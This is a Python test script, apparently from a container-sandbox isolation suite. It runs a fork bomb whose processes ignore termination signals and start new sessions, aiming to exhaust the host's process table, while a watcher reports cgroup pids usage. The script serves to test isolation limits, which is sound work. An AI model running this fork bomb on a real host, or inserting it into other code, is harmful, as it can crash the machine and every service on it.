"""Attack: a fork bomb whose processes hide from signals, to exhaust the host's process table.

The first process stays out of the bomb and watches: every half second it prints the container's
pids count as the cgroup shows it (if that file is visible) and whether any bomb process has seen
fork fail. The bomb's processes start new sessions and ignore SIGTERM, SIGINT and SIGHUP (so only
the controller's SIGKILL can end them) and fork without end; after a failed fork they back off a
little, as a bomb that means to outlast the trial would, and keep trying. They run at nice 19, so the
watcher still gets to report on a loaded host. If the pids limit were
missing this would take the host's process table and with it the controller and every other trial.

Prints `ATTACK {"forks_failed": bool, "pids_current": n, "pids_max": ..., "max_pids_seen": n}` every
half second. Expected: timeout under runc (the kernel refuses forks at pids_limit and the clock ends
it); under gVisor the sentry's own threads share the limit and the whole sandbox dies first
(google/gvisor#2490): crash. Either way the host starts processes throughout and nothing is left.
"""

import json
import os
import signal
import time

FAILED = "/tmp/fork-failed"
PIDS_FILES = ("/sys/fs/cgroup/pids/pids.current", "/sys/fs/cgroup/pids.current")
MAX_FILES = ("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max")


def read_first(paths):
    for path in paths:
        try:
            with open(path) as f:
                return f.read().strip()
        except OSError:
            continue
    return None


def bomb():
    os.setsid()
    os.nice(19)  # the process table is the target, not the CPU: leave the watcher room to report
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    noted = False
    while True:
        try:
            os.fork()  # parent and child both carry on
        except OSError:
            if not noted:
                noted = True
                try:
                    os.close(os.open(FAILED, os.O_CREAT | os.O_WRONLY, 0o600))
                except OSError:
                    pass
            time.sleep(0.2)


for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
if os.fork() == 0:
    bomb()
max_seen = 0
while True:
    current = read_first(PIDS_FILES)
    if current and current.isdigit():
        max_seen = max(max_seen, int(current))
    report = {"forks_failed": os.path.exists(FAILED), "pids_current": current, "pids_max": read_first(MAX_FILES),
              "max_pids_seen": max_seen}  # fmt: skip
    print("ATTACK " + json.dumps(report), flush=True)
    time.sleep(0.5)
